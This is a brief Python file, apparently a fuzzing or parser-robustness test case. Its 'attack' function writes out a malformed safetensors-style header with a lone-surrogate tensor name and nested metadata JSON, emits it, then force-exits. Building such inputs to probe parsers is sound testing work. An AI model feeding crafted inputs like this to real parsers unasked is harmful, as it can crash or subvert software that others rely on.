import json
import os

from raw_answer import outcome, say


def attack(universe):
    metadata = json.dumps({"outcome": json.dumps({"status": "ok"})})
    entry = '"\\udfff":{"dtype":"U8","shape":[0],"data_offsets":[0,0]}'
    say(outcome(f'{{"__metadata__":{metadata},{entry}}}'.encode(), b""))
    os._exit(0)
